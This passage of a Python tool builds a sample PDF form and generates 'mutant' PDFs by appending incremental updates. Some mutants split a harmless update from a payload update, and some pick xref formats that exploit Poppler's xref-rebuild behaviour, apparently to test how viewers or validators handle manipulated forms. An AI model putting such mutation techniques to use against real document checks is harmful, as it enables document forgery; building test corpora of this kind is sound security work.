        8: make_stream(b"BT /F1 14 Tf 72 760 Td (Page 3: annex) Tj ET\n"),
        9: PDict([(Name(b"Type"), Name(b"Page")), (Name(b"Parent"), Ref(2)), (Name(b"MediaBox"), box),
                  (Name(b"Contents"), [Ref(8), Ref(41)]), (Name(b"Resources"), Ref(7))]),
        10: [Ref(4)],
        11: PDict([(Name(b"Fields"), [Ref(n) for n in (12, 16, 27, 17, 14, 13)]),
                   (Name(b"DA"), pdf_string("/Helv 0 Tf 0 g")), (Name(b"DR"), dr.copy())]),
        12: widget(tx + [(Name(b"V"), pdf_string("Alice")), (Name(b"AP"), PDict([(Name(b"N"), Ref(15))]))],
                   [72, 600, 300, 630], "name"),
        13: widget([(Name(b"FT"), Name(b"Btn")), (Name(b"Ff"), 65536),
                    (Name(b"AP"), PDict([(Name(b"N"), Ref(20))]))], [400, 600, 500, 650], "logo"),
        14: PDict([(Name(b"FT"), Name(b"Btn")), (Name(b"Ff"), 49152), (Name(b"T"), pdf_string("choice")),
                   (Name(b"V"), Name(b"A")), (Name(b"Kids"), [Ref(18), Ref(19)])]),
        15: text_ap("Alice"),
        16: widget(tx + [(Name(b"V"), pdf_string("Alice")), (Name(b"AP"), PDict([(Name(b"N"), Ref(15))]))],
                   [72, 560, 300, 590], "name2"),
        # No /DA of its own: the form's /DA and /DR style the appearance a viewer generates.
        17: widget([(Name(b"FT"), Name(b"Tx")), (Name(b"V"), pdf_string("100 USD"))], [72, 520, 300, 550], "amount"),
        18: widget([(Name(b"Parent"), Ref(14)), (Name(b"AS"), Name(b"A")),
                    (Name(b"AP"), PDict([(Name(b"N"), PDict([(Name(b"A"), Ref(22)), (Name(b"Off"), Ref(23))]))]))],
                   [72, 480, 92, 500]),
        19: widget([(Name(b"Parent"), Ref(14)), (Name(b"AS"), Name(b"Off")),
                    (Name(b"AP"), PDict([(Name(b"N"), PDict([(Name(b"B"), Ref(24)), (Name(b"Off"), Ref(23))]))]))],
                   [110, 480, 130, 500]),
        20: form_xobject(b"q 0.2 g 0 0 100 50 re f Q BT /F1 18 Tf 1 g 10 18 Td (LOGO) Tj ET\n", [0, 0, 100, 50],
                         PDict([(Name(b"Font"), PDict([(Name(b"F1"), Ref(5))]))])),
        21: HELVETICA.copy(),
        22: form_xobject(dot, [0, 0, 20, 20]),
        23: form_xobject(b"q 0 G 1 w 0.5 0.5 19 19 re S Q\n", [0, 0, 20, 20]),
        24: form_xobject(dot, [0, 0, 20, 20]),
        26: make_stream(b"BT /F1 14 Tf 72 760 Td (Page 2: terms and conditions) Tj ET\n"),
        27: widget(tx + [(Name(b"V"), pdf_string("REF-7"))] + [(Name(b"AP"), PDict([(Name(b"N"), Ref(28))]))],
                   [320, 600, 548, 630], "ref"),
        28: text_ap("REF-7"),
        30: PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"FreeText")),
                   (Name(b"Rect"), [350, 700, 550, 740]), (Name(b"F"), 4), (Name(b"P"), Ref(3)),
                   (Name(b"Contents"), pdf_string("Checked")), (Name(b"DA"), pdf_string("/Helv 14 Tf 0 g")),
                   (Name(b"AP"), PDict([(Name(b"N"), Ref(31))]))]),
        31: form_xobject(b"BT /Helv 14 Tf 0 0 1 rg 4 14 Td (Checked) Tj ET\n", [0, 0, 200, 40], dr.copy()),
        40: PDict([(Name(b"Type"), Name(b"OCG")), (Name(b"Name"), pdf_string("Layer 1"))]),
        41: make_stream(xmp, [(Name(b"Type"), Name(b"Metadata")), (Name(b"Subtype"), Name(b"XML"))]),
    }
    w = Writer(0, b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n")
    size = max(objs) + 1
    entries = {n: ("n", w.obj(n, 0, objs[n]), 0) for n in sorted(objs)}
    at = w.tell()
    # Numbers the file does not use are free entries (generation 0, as writers leave them).
    rows = b"".join(b"%010d %05d n \n" % (entries[n][1], 0) if n in entries
                    else b"%010d %05d f \n" % (0, 65535 if n == 0 else 0) for n in range(size))
    w.out += b"xref\n0 %d\n" % size + rows + b"trailer\n" + ser(
        PDict([(Name(b"Size"), size), (Name(b"Root"), Ref(1)), (Name(b"Info"), Ref(7))])) + b"\n"
    w.out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(w.out)


# --------------------------------------------------------------------------------------------
# API
# --------------------------------------------------------------------------------------------


def build_mutant(base, seed, only=None):
    """(mutant bytes, record) for `base` (a BaseDoc) and an integer seed."""
    rng = random.Random(seed)
    ctx = Ctx(base, rng)
    seq = draw_sequence(rng, base, only)
    ops, skipped = [], []
    for name in seq:
        try:
            params = choose_params(ctx, name)
            OPERATIONS[name](ctx, params)
            ops.append({"op": name, **params})
        except Skip as e:
            skipped.append({"op": name, "why": str(e)})
    if ctx.layout != "single":
        ctx.ensure_payload()
    elif rng.random() < 0.15:
        ctx.split = True  # two updates: the harmless part first, the payload second
    # Mostly the base's own xref format. Poppler rebuilds a damaged xref (finding objects no
    # section lists) only when the newest section is a classic table: unlisted objects favour it.
    if any(not d.listed for d in ctx.objs.values()):
        pref = "table" if rng.random() < 0.8 else "stream"
    elif base.uses_xref_stream:
        pref = "stream" if rng.random() < 0.7 else "table"
    else:
        pref = "table" if rng.random() < 0.7 else "stream"
    if ctx.force_fmt is not None:
        pref = ctx.force_fmt
    tail, layout = finalize(ctx, pref)
    record = {"base": base.name, "seed": seed, "ops": ops, "skipped": skipped, "xref": pref, **layout}
    return base.data + tail, record


def replay(base, ops, xref_pref="table"):
    """The update made by `ops` alone (records of build_mutant, with their parameters) over
    `base`: what a mutant's allowed operations display without the rest of it."""
    ctx = Ctx(base, random.Random(0))
    for o in ops:
        OPERATIONS[o["op"]](ctx, {k: v for k, v in o.items() if k != "op"})
    tail, _ = finalize(ctx, xref_pref)
    return base.data + tail


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("base")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--count", type=int, default=10)
    ap.add_argument("--only", help="comma-separated operation names to draw from")
    ap.add_argument("--out", required=True)
    args = ap.parse_args(argv)
    with open(args.base, "rb") as f:
        base = BaseDoc(f.read(), os.path.basename(args.base))
    only = set(args.only.split(",")) if args.only else None
    os.makedirs(args.out, exist_ok=True)
    stem = os.path.splitext(os.path.basename(args.base))[0]
    with open(os.path.join(args.out, "mutants.jsonl"), "a") as log:
        for i in range(args.count):
            seed = args.seed * 100000 + i
            data, rec = build_mutant(base, seed, only)
            rec["file"] = "%s-%d.pdf" % (stem, seed)
            with open(os.path.join(args.out, rec["file"]), "wb") as f:
                f.write(data)
            log.write(json.dumps(rec) + "\n")
            print(rec["file"], " ".join(o["op"] for o in rec["ops"]))


if __name__ == "__main__":
    sys.exit(main())
